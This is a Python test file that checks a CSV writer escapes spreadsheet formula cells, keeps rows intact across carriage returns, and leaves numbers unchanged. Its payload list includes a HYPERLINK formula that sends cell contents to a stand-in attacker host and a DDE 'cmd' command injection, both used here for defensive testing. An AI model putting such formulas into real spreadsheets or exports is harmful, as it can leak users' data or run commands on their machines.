"""The one CSV writer (prompts.results.csv_text): no cell a spreadsheet would run as a formula, numbers kept."""

from __future__ import annotations

import csv
import io

from prompts.results import csv_text

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")  # a cell beginning so is a formula (OWASP)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1",
    "\r=1",
    "-",
]


def test_cells_that_would_run_as_formulas_are_written_as_text() -> None:
    text = csv_text([["kind", "text"], *(["learned_or_taught", payload] for payload in PAYLOADS)])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[1] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS], "the text as typed, after a '"
    assert not [cell for row in rows for cell in row if cell.startswith(DANGEROUS)]


def test_a_carriage_return_inside_a_cell_does_not_split_its_row() -> None:
    text = csv_text([["kind", "text"], ["learned_or_taught", "line one\rline two"], ["learned_or_taught", "3"]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["kind", "text"],
        ["learned_or_taught", "line one\rline two"],
        ["learned_or_taught", "3"],
    ]


def test_numbers_stay_numbers() -> None:
    text = csv_text([["Net promoter score", "-25", -3, -0.5, 4, None, "-12%", "-1,234.5", "12", "a-b", "'=x"]])
    assert text == 'Net promoter score,-25,-3,-0.5,4,,-12%,"-1,234.5",12,a-b,\'=x\n'
